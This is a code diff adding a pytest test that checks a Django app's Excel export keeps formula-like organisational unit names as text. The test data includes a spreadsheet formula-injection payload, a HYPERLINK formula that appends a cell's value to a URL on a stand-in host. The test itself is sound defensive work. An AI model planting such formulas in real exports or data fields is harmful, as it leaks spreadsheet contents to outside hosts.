@@ -176,3 +176,17 @@ def test_selector_query_count_is_fixed(tree: Tree, inside, cycle, django_assert_
     # a unit without children: distributions, children, collectives, its people
     with django_assert_num_queries(4):
         assert len(analytics_for(inside, cycle, tree.cell).people) == 10
+
+
+@pytest.mark.django_db
+def test_excel_export_keeps_formula_like_names_as_text(tree: Tree, inside, cycle) -> None:
+    hyperlink = '=HYPERLINK("http://x?d="&A2,"y")'
+    OrgUnit.objects.filter(pk=tree.commune2.pk).update(name="=1+1")
+    OrgUnit.objects.filter(pk=tree.commune.pk).update(name=hyperlink)
+    response = login(inside).get(_url(cycle, tree.province, "evaluations:analytics_export"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    names = {row[0].value: row[1] for row in sheet.iter_rows() if row[0].value in {"T01-X01", "T01-X02"}}
+    assert names["T01-X02"].value == "=1+1" and names["T01-X02"].data_type == "s"
+    assert names["T01-X01"].value == hyperlink and names["T01-X01"].data_type == "s"
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
